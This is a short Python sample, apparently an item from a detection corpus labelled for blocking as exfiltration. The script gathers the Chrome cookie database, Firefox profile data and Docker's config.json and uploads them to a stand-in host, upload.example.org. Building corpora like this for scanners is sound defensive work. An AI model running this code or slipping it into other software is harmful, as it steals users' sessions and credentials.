# pyguard-corpus: verdict=block category=exfil rules=PG601,PG606
# what: copies the browser's cookie database through a list of collected files and uploads them
import os

import requests

targets = [
    "~/.config/google-chrome/Default/Cookies",
    "~/.mozilla/firefox/profiles.ini",
    "~/.docker/config.json",
]
files = {}
for target in targets:
    path = os.path.expanduser(target)
    if os.path.exists(path):
        files[os.path.basename(path)] = open(path, "rb").read()

requests.post("https://upload.example.org/f", files=files, timeout=30)
